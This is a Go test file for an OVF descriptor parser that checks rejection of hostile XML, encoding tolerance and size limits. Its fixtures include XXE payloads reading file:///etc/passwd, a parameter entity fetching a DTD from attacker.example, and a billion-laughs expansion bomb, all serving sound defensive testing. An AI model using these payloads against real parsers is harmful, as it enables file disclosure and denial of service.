package ovf

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"
	"unicode/utf16"
)

const minimalBody = `<References/><VirtualSystem ovf:id="vm"><VirtualHardwareSection/></VirtualSystem>`

// TestHostileErrors checks input Parse must refuse, and how.
func TestHostileErrors(t *testing.T) {
	lol := `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
		`<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">` +
		`<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">` +
		`<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">` +
		`<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">` +
		`<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">` +
		`<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">` +
		`<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">` +
		`<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>`
	cases := []struct {
		name string
		doc  string
		err  error
		msg  string // substring of the error text
	}{
		{"XXE file", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>` + env10(`<References><File ovf:id="f" ovf:href="&e;"/></References>`)[len(`<?xml version="1.0"?>`):], ErrEntity, "declares XML entities"},
		{"XXE parameter entity", `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><Envelope/>`, ErrEntity, ""},
		{"XXE lower-case keyword", `<!DOCTYPE x [<!entity e SYSTEM "file:///etc/passwd">]><Envelope>&e;</Envelope>`, ErrEntity, ""},
		{"billion laughs", lol + `<Envelope><Annotation>&lol9;</Annotation></Envelope>`, ErrEntity, ""},
		{"undeclared entity", `<Envelope><Annotation>&e;</Annotation></Envelope>`, ErrNotOVF, "invalid character entity &e;"},
		{"HTML entity", `<Envelope><Annotation>&nbsp;</Annotation></Envelope>`, ErrNotOVF, "&nbsp;"},
		{"empty", ``, ErrNotXML, "not XML: empty"},
		{"blank", "  \n\t", ErrNotXML, "not XML: only blanks"},
		{"comments only", "<!-- a -->\n", ErrNotOVF, "line 2, column 1: no root element"},
		{"not XML", "SHA256(x.ovf)= 00\n", ErrNotXML, "it begins with 'S', not '<'"},
		{"PNG", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", ErrNotXML, "the byte 0x89"},
		{"JSON", `{"Envelope": {}}`, ErrNotXML, ""},
		{"text before the root", "<?xml version=\"1.0\"?>\n  garbage<Envelope/>", ErrNotOVF, "line 2, column 3: text before the root element"},
		{"wrong root", `<html><body/></html>`, ErrNotOVF, "line 1, column 1: root element is <html>, not <Envelope>"},
		{"truncated", env10(minimalBody)[:60], ErrNotOVF, "line 1, column 61: unexpected EOF"},
		{"unclosed", `<Envelope><References>`, ErrNotOVF, "unexpected EOF"},
		{"mismatched tags", `<Envelope><References></Reference></Envelope>`, ErrNotOVF, "column 35: element <References> closed by </Reference>"},
		{"invalid UTF-8 in text", "<Envelope><Name>\xff\xfe</Name></Envelope>", ErrNotOVF, "invalid UTF-8"},
		{"invalid UTF-8 in attribute", "<Envelope><References><File ovf:href=\"\xc3\x28\"/></References></Envelope>", ErrNotOVF, "invalid UTF-8"},
		{"XML 1.1 declaration", `<?xml version="1.1"?><Envelope/>`, ErrNotOVF, `unsupported version "1.1"`},
		{"NUL character reference", `<Envelope><Name>&#0;</Name></Envelope>`, ErrNotOVF, ""},
		{"UTF-16 with an odd byte", "\xff\xfe<\x00E\x00n\x00v\x00e\x00l\x00o\x00p\x00e\x00>\x00x", ErrNotOVF, "inside a character"},
		{"10 000 deep", "<Envelope>" + strings.Repeat("<a>", 10000) + strings.Repeat("</a>", 10000) + "</Envelope>", ErrTooDeep, "more than 128 deep"},
		{"deep collections", env10(strings.Repeat(`<VirtualSystemCollection ovf:id="c">`, 200) + strings.Repeat(`</VirtualSystemCollection>`, 200)), ErrTooDeep, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e, err := Parse(strings.NewReader(c.doc))
			if !errors.Is(err, c.err) || e != nil {
				t.Fatalf("Parse = %v, %v; want an error wrapping %v", e, err, c.err)
			}
			if !strings.HasPrefix(err.Error(), "ovf: ") || !strings.Contains(err.Error(), c.msg) {
				t.Errorf("error %q: want the ovf: prefix and %q", err, c.msg)
			}
			if strings.Contains(err.Error(), "root:") {
				t.Errorf("error %q leaks a file's contents", err)
			}
		})
	}
}

// TestParsePosition: a descriptor that does not parse is reported with the
// line and column an editor needs, in a form the command line prints as is.
func TestParsePosition(t *testing.T) {
	doc := "<?xml version=\"1.0\"?>\n<Envelope>\n  <References>\n    <File ovf:id=\"a\"></Fil>\n</Envelope>\n"
	_, err := Parse(strings.NewReader(doc))
	var xe *XMLError
	if !errors.As(err, &xe) || !errors.Is(err, ErrNotOVF) || errors.Is(err, ErrNotXML) {
		t.Fatalf("err = %v, want an *XMLError wrapping ErrNotOVF only", err)
	}
	// Column 28 is just past the ">" of </Fil>, where the parser sees
	// the tags differ.
	eq(t, "position", [2]int{xe.Line, xe.Column}, [2]int{4, 28})
	eq(t, "text", err.Error(), "ovf: not a valid OVF descriptor: line 4, column 28: element <File> closed by </Fil>")
}

// TestXXEDoesNotLeak plants a secret in a file an external entity names and
// checks it appears nowhere, whatever Parse returns.
func TestXXEDoesNotLeak(t *testing.T) {
	secret := "s3cr3t-" + t.Name()
	path := t.TempDir() + "/secret.txt"
	if err := os.WriteFile(path, []byte(secret), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, doc := range []string{
		`<!DOCTYPE Envelope [<!ENTITY e SYSTEM "file://` + path + `">]>` + env10(`<References><File ovf:id="f" ovf:href="&e;"/></References>`+vsXML("&e;", "")),
		`<!DOCTYPE Envelope SYSTEM "file://` + path + `">` + env10(minimalBody),
		env10(`<References><File ovf:id="f" ovf:href="&e;"/></References>`),
	} {
		e, err := Parse(strings.NewReader(doc))
		out := fmt.Sprintf("%v %+v", err, e)
		if strings.Contains(out, secret) {
			t.Fatalf("the secret leaked: %s", out)
		}
	}
}

// TestTolerated checks odd input Parse must read, with what it reports.
func TestTolerated(t *testing.T) {
	utf16le := func(s string, bom bool) string {
		var b bytes.Buffer
		if bom {
			b.WriteString("\xff\xfe")
		}
		for _, u := range utf16.Encode([]rune(s)) {
			b.WriteByte(byte(u))
			b.WriteByte(byte(u >> 8))
		}
		return b.String()
	}
	utf16be := func(s string, bom bool) string {
		var b bytes.Buffer
		if bom {
			b.WriteString("\xfe\xff")
		}
		for _, u := range utf16.Encode([]rune(s)) {
			b.WriteByte(byte(u >> 8))
			b.WriteByte(byte(u))
		}
		return b.String()
	}
	named := func(decl, name string) string {
		return decl + env10(`<References/>` + `<VirtualSystem ovf:id="vm"><Name>` + name + `</Name><VirtualHardwareSection/></VirtualSystem>`)[len(`<?xml version="1.0"?>`):]
	}
	const unicodeName = "Ünïcødé \U0001F4BE appliance"
	cases := []struct {
		name, doc, want string
		warns           []string
	}{
		{"false utf-16 declaration on ASCII (XenCenter)", named(`<?xml version="1.0" encoding="utf-16"?>`, "x"), "x", []string{`declares encoding "utf-16" but its bytes are not UTF-16`}},
		{"UTF-16LE with BOM", utf16le(named(`<?xml version="1.0" encoding="UTF-16"?>`, unicodeName), true), unicodeName, nil},
		{"UTF-16LE without BOM", utf16le(named(`<?xml version="1.0" encoding="UTF-16"?>`, unicodeName), false), unicodeName, nil},
		{"UTF-16BE with BOM", utf16be(named(`<?xml version="1.0" encoding="UTF-16"?>`, unicodeName), true), unicodeName, nil},
		{"UTF-16BE without BOM", utf16be(named(`<?xml version="1.0" encoding="UTF-16BE"?>`, unicodeName), false), unicodeName, nil},
		{"UTF-16 declaring UTF-8", utf16le(named(`<?xml version="1.0" encoding="UTF-8"?>`, "x"), true), "x", nil},
		{"UTF-16 declaring latin-1", utf16le(named(`<?xml version="1.0" encoding="ISO-8859-1"?>`, "x"), true), "x", []string{`declares encoding "ISO-8859-1" but its bytes are UTF-16`}},
		{"UTF-16 unpaired surrogate", utf16le(named(`<?xml version="1.0" encoding="UTF-16"?>`, "AB"), true), "A\uFFFDB", nil},
		{"ISO-8859-1", named(`<?xml version="1.0" encoding="ISO-8859-1"?>`, "caf\xe9"), "café", nil},
		{"US-ASCII", named(`<?xml version="1.0" encoding="US-ASCII"?>`, "x"), "x", nil},
		{"unknown encoding on ASCII", named(`<?xml version="1.0" encoding="Shift_JIS"?>`, "x"), "x", []string{`unsupported encoding "Shift_JIS"; read as UTF-8`}},
		{"UTF-8 BOM", "\xef\xbb\xbf" + named(`<?xml version="1.0" encoding="UTF-8"?>`, "x"), "x", nil},
		{"DOCTYPE without entities", named(`<?xml version="1.0"?><!DOCTYPE Envelope>`, "x"), "x", []string{"document type declaration ignored"}},
		{"trailing garbage", named(``, "x") + "garbage", "x", []string{"ignored content after </Envelope>"}},
		{"trailing second root", named(``, "x") + "<Envelope/>", "x", []string{"ignored content after </Envelope>"}},
		{"trailing broken markup", named(``, "x") + "<<", "x", []string{"ignored what follows </Envelope>"}},
		{"trailing comment", named(``, "x") + "<!-- end -->\n", "x", nil},
		{"character references", named(``, "&#x1F4BE;&amp;&lt;"), "\U0001F4BE&<", nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if c.name == "UTF-16 unpaired surrogate" {
				// Replace the B's preceding unit with a lone high surrogate.
				c.doc = strings.Replace(c.doc, "A\x00B\x00", "A\x00\x00\xd8B\x00", 1)
			}
			e := mustParse(t, c.doc)
			eq(t, "name", e.Systems[0].Name, c.want)
			checkWarnings(t, e.Warnings, c.warns)
		})
	}
}

// TestHugeAndNegativeNumbers: numbers past int64 or below zero are -1 (or
// 0 for counts) with a warning, never wrapped or negative.
func TestHugeAndNegativeNumbers(t *testing.T) {
	e := mustParse(t, env10(`<References>`+
		`<File ovf:id="big" ovf:href="a" ovf:size="1180591620717411303424" ovf:chunkSize="1180591620717411303424"/>`+
		`<File ovf:id="neg" ovf:href="b" ovf:size="-1" ovf:chunkSize="-5"/></References>`+
		`<DiskSection><Disk ovf:diskId="big" ovf:fileRef="big" ovf:capacity="1180591620717411303424" ovf:populatedSize="99999999999999999999"/>`+
		`<Disk ovf:diskId="neg" ovf:fileRef="neg" ovf:capacity="-5" ovf:populatedSize="-1"/></DiskSection>`+
		`<VirtualSystem ovf:id="vm"><OperatingSystemSection ovf:id="99999999999"/><VirtualHardwareSection>`+
		itemXML("", "1", rtCPU, "VirtualQuantity", "-2")+
		itemXML("", "2", rtMemory, "AllocationUnits", "byte * 2^20", "VirtualQuantity", "18446744073709551616")+
		itemXML("", "3", rtDisk, "HostResource", "ovf:/disk/big")+itemXML("", "4", rtDisk, "HostResource", "ovf:/disk/neg")+
		`</VirtualHardwareSection></VirtualSystem>`))
	for _, f := range e.Files {
		eq(t, f.ID+" size", f.Size, int64(-1))
		eq(t, f.ID+" chunk size", f.ChunkSize, int64(0))
	}
	for _, d := range e.Disks {
		eq(t, d.ID+" capacity", d.Capacity, int64(-1))
		eq(t, d.ID+" populated size", d.PopulatedSize, int64(-1))
	}
	vs := e.Systems[0]
	eq(t, "cpus", vs.CPUs, 0)
	eq(t, "memory", vs.MemoryBytes, int64(0))
	eq(t, "os id", vs.OS.ID, -1)
	checkWarnings(t, e.Warnings, []string{
		`File "big": ovf:size "1180591620717411303424" is beyond 2^63 bytes`,
		`File "big": ovf:chunkSize`,
		`File "neg": ovf:size "-1" is not a non-negative integer`,
		`File "neg": ovf:chunkSize "-5"`,
		`Disk "big": ovf:populatedSize "99999999999999999999" is beyond 2^63 bytes`,
		`Disk "neg": ovf:populatedSize "-1"`,
		`OperatingSystemSection ovf:id "99999999999"`,
		`CPU item "1" has VirtualQuantity "-2"`,
		`memory item "2"`,
		`Disk "big": capacity "1180591620717411303424"`,
		`Disk "neg": capacity "-5"`,
	})
}

// TestWarningsAreBounded: a descriptor whose every element is a finding
// yields a bounded list that says how much it left out.
func TestWarningsAreBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString(`<References/><DiskSection>`)
	for i := range 1000 {
		fmt.Fprintf(&b, `<Disk ovf:diskId="d%d" ovf:capacity="1"/>`, i)
	}
	b.WriteString(`</DiskSection>` + vsXML("vm", ""))
	e := mustParse(t, env10(b.String()))
	eq(t, "warnings", len(e.Warnings), maxWarnings+1)
	eq(t, "last warning", e.Warnings[maxWarnings], "800 more warnings not shown")
}

// TestManyOptionsManyItems: summing each of thousands of deployment
// options over thousands of items would take minutes; past a budget the
// sizes per option are left out, with a warning, and the default summary
// stays.
func TestManyOptionsManyItems(t *testing.T) {
	var b strings.Builder
	b.WriteString(`<References/><DeploymentOptionSection>`)
	for i := range 5000 {
		fmt.Fprintf(&b, `<Configuration ovf:id="c%d"/>`, i)
	}
	b.WriteString(`</DeploymentOptionSection><VirtualSystem ovf:id="vm"><VirtualHardwareSection>`)
	for i := range 5000 {
		b.WriteString(itemXML("", itoa(i), rtCPU, "VirtualQuantity", "1"))
	}
	b.WriteString(`</VirtualHardwareSection></VirtualSystem>`)
	e := mustParse(t, env10(b.String()))
	vs := e.Systems[0]
	eq(t, "cpus", vs.CPUs, 5000)
	eq(t, "configuration", vs.Configuration, "c0")
	eq(t, "by configuration", vs.ByConfiguration, []Sizing(nil))
	checkWarnings(t, e.Warnings, []string{`VirtualSystem "vm": 5000 deployment options over 5000 items are more than this reader sizes`})
}

// repeatReader streams head, then body over and over up to n bytes in
// all, then tail: a large descriptor that is never held in memory.
type repeatReader struct {
	head, body, tail []byte
	n, read          int64
	pos              int
	stage            int
}

func (r *repeatReader) Read(p []byte) (int, error) {
	total := 0
	for total < len(p) {
		var src []byte
		switch r.stage {
		case 0:
			src = r.head
		case 1:
			if r.read >= r.n {
				r.stage, r.pos = 2, 0
				continue
			}
			src = r.body
		case 2:
			src = r.tail
		default:
			if total == 0 {
				return 0, io.EOF
			}
			return total, nil
		}
		c := copy(p[total:], src[r.pos:])
		total += c
		r.pos += c
		r.read += int64(c)
		if r.pos == len(src) {
			r.pos = 0
			if r.stage != 1 {
				r.stage++
			}
		}
	}
	return total, nil
}

// TestHundredMegabytes streams 100 MB descriptors: one made of many small
// elements, one of a single huge text. Both must stop early with
// ErrTooLarge, having read no more than the bound.
func TestHundredMegabytes(t *testing.T) {
	const size = 100 << 20
	cases := []struct {
		name string
		r    *repeatReader
		msg  string
		max  int64 // most bytes Parse may have read
	}{
		{
			name: "many elements",
			r: &repeatReader{head: []byte(strings.TrimSuffix(env10(""), "</Envelope>") + "<References>"),
				body: []byte(`<File ovf:id="f" ovf:href="disk.vmdk" ovf:size="1"/>`), tail: []byte("</References></Envelope>"), n: size},
			msg: "more than 100000 elements", max: 8 << 20,
		},
		{
			name: "one huge annotation",
			r: &repeatReader{head: []byte(`<Envelope><VirtualSystem><AnnotationSection><Annotation>`),
				body: []byte("All work and no play makes Jack a dull boy. "), tail: []byte("</Annotation></AnnotationSection></VirtualSystem></Envelope>"), n: size},
			msg: "more than 16777216 bytes", max: defaultLimits.maxBytes + 1,
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e, err := Parse(c.r)
			if !errors.Is(err, ErrTooLarge) || e != nil || !strings.Contains(err.Error(), c.msg) {
				t.Fatalf("Parse = %v, %v; want ErrTooLarge with %q", e, err, c.msg)
			}
			if c.r.read > c.max {
				t.Errorf("read %d bytes before giving up; want at most %d", c.r.read, c.max)
			}
		})
	}
}

// TestLimits exercises each bound with small limits so that it is cheap.
func TestLimits(t *testing.T) {
	doc := env10(`<References><File ovf:id="a" ovf:href="a"/><File ovf:id="b" ovf:href="b"/></References>` + vsXML("vm", ""))
	cases := []struct {
		name string
		lim  limits
		err  error
	}{
		// 6 elements, 3 deep, 9 attributes (the 4 xmlns ones included).
		{"fits", limits{maxBytes: int64(len(doc)), maxDepth: 3, maxElements: 6, maxAttrs: 9}, nil},
		{"bytes", limits{maxBytes: int64(len(doc)) - 1, maxDepth: 3, maxElements: 6, maxAttrs: 9}, ErrTooLarge},
		{"depth", limits{maxBytes: 1 << 20, maxDepth: 2, maxElements: 6, maxAttrs: 9}, ErrTooDeep},
		{"elements", limits{maxBytes: 1 << 20, maxDepth: 3, maxElements: 5, maxAttrs: 9}, ErrTooLarge},
		{"attributes", limits{maxBytes: 1 << 20, maxDepth: 3, maxElements: 6, maxAttrs: 8}, ErrTooLarge},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := parse(strings.NewReader(doc), c.lim)
			if !errors.Is(err, c.err) || (c.err == nil) != (err == nil) {
				t.Fatalf("parse = %v, want %v", err, c.err)
			}
		})
	}
}

type failingReader struct{ after int }

var errDisk = errors.New("disk on fire")

func (f *failingReader) Read(p []byte) (int, error) {
	if f.after <= 0 {
		return 0, errDisk
	}
	n := copy(p[:min(len(p), f.after)], strings.Repeat("<Envelope>", 100))
	f.after -= n
	return n, nil
}

// TestReaderError: a failing reader is reported as such, not as "not OVF".
func TestReaderError(t *testing.T) {
	for _, after := range []int{0, 25} {
		_, err := Parse(&failingReader{after: after})
		if !errors.Is(err, errDisk) || errors.Is(err, ErrNotOVF) || !strings.HasPrefix(err.Error(), "ovf: reading descriptor") {
			t.Errorf("after %d bytes: err = %v, want the reader's error", after, err)
		}
	}
}
